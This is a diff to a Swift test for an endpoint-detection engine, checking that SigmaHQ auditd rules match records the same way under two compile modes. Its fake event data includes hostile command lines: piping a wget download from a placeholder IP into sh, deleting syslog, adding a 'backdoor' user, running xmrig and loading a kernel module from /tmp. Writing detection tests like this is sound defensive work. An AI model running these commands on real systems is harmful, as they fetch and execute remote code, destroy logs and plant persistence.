@@ -2,7 +2,7 @@ import Testing
 import Foundation
 @testable import EDRCore
 @testable import EDRDetect
-import EDRSigma
+@testable import EDRSigma
 
 /// SigmaHQ's auditd rules, loaded from the corpus (../shared/corpora/sigmahq from the repo
 /// root), run by a real `Detector` on kernel records laid out byte for byte: each rule fires on
@@ -309,6 +309,70 @@ struct AuditdRecordTests {
         #expect(inert["710bdbce-495d-491d-9a8f-7d0d88d2b41e"]?.contains("SYSCALL 'mknod'") == true)
         let partial = engine.diagnostics.first { $0.ruleID == "49aae26c-450e-448b-911d-b3c13d178dfc" }
         #expect(partial?.status == .loaded && partial?.neverTrue.contains { $0.contains("type 'tty'") } == true)
+    }
+
+    /// The auditd rules compiled again per record type (`SigmaOptions.unitPerKind`): SigmaHQ's
+    /// Linux rules, the `product: linux` ones folded in, match the same records either way, each
+    /// rule once; an EXECVE-only rule is in the EXECVE unit alone (so SYSCALL and PATH records are
+    /// not scanned for its keywords `0` and `6`); a record of a type no unit is for, or with its
+    /// type in lower case, still reaches every rule it can match.
+    @Test func theCorpusMatchesTheSameWithAUnitPerRecordType() throws {
+        try #require(FileManager.default.fileExists(atPath: Self.corpus))
+        let linux = (Self.corpus as NSString).deletingLastPathComponent
+        var options = DetectorLogSources.sigmaOptions(on: .linux)
+        let on = try SigmaEngine.load(paths: [linux], options: options)
+        options.unitPerKind = false
+        let off = try SigmaEngine.load(paths: [linux], options: options)
+        #expect(on.units.compactMap(\.kind).sorted() == ["cwd", "execve", "path", "proctitle", "sockaddr", "syscall"])
+        #expect(off.units.allSatisfy { $0.kind == nil })
+        let shutdown = try #require(on.rules.firstIndex { $0.id == "4cb57c2f-1f29-41f8-893d-8bed8e1c1d2f" })
+        for u in on.units where u.kind != nil {
+            #expect(u.ruleGlobal.contains(Int32(shutdown)) == (u.kind == "execve"), "\(u.kind ?? "")")
+        }
+
+        // Every exec of the mix as its auditd records, staged commands the auditd and builtin
+        // rules read, and hand-made records.
+        var events: [Event] = []
+        for e in SigmaEventMix.events(count: 1500) where e.logsource.category == "process_creation" {
+            events += AuditdRecords.exec(event: e)
+        }
+        let commands = [
+            "shutdown -h now", "init 0", "telinit 6", "reboot", "chattr -i /etc/passwd", "truncate -s +5M /tmp/p",
+            "xmrig --cpu-priority=5", "grep -r password /etc", "insmod /tmp/r.ko", "rm -rf /var/log/syslog",
+            "wget -q - http://198.51.100.7/x | sh", "useradd backdoor", "split -b 1M /tmp/loot", "systemctl start evil.service"
+        ]
+        for (k, line) in commands.enumerated() {
+            let name = String(line.split(separator: " ")[0])
+            for image in ["/usr/sbin/" + name, "/tmp/." + name] {
+                events += AuditdRecords.exec(
+                    event: Event(
+                        logsource: LogSource(product: "linux", category: "process_creation"), timestamp: Double(k),
+                        fields: [
+                            ("Image", .string(image)), ("CommandLine", .string(line)), ("ProcessId", 4242), ("ParentProcessId", 1),
+                            ("LogonId", 1000), ("User", "root"), ("CurrentDirectory", "/tmp")
+                        ]))
+            }
+        }
+        let ls = AuditdRecords.logSource
+        events += [
+            Event(logsource: ls, fields: [("type", "USER_CMD"), ("cmd", "rm -rf /var/log/syslog"), ("a0", "shutdown")]),
+            Event(logsource: ls, fields: [("type", "execve"), ("argc", 2), ("a0", "shutdown"), ("a1", "-h")]),
+            Event(logsource: ls, fields: [("type", "Execve"), ("argc", 2), ("a0", "init"), ("a1", 6)]),
+            Event(logsource: ls, fields: [("type", .int(1)), ("a0", "reboot")]),
+            Event(logsource: ls, fields: [("a0", "reboot"), ("a1", "now")])
+        ]
+        var total = 0
+        func ids(_ m: [SigmaMatch]) -> [String] { m.map { $0.rule.id ?? $0.rule.path }.sorted() }
+        for e in events {
+            let a = ids(on.evaluate(e)), b = ids(off.evaluate(e))
+            #expect(a == b, "\(e.fields)")
+            #expect(Set(a).count == a.count, "a rule is reported once: \(a)")
+            total += a.count
+        }
+        #expect(total > 40, "the records hit rules: \(total) matches")
+        // Lower case still reaches the EXECVE unit's rules.
+        #expect(ids(on.evaluate(events[events.count - 4])).contains("4cb57c2f-1f29-41f8-893d-8bed8e1c1d2f"))
+        #expect(ids(on.evaluate(events[events.count - 3])).contains("4cb57c2f-1f29-41f8-893d-8bed8e1c1d2f"))
     }
 }
 
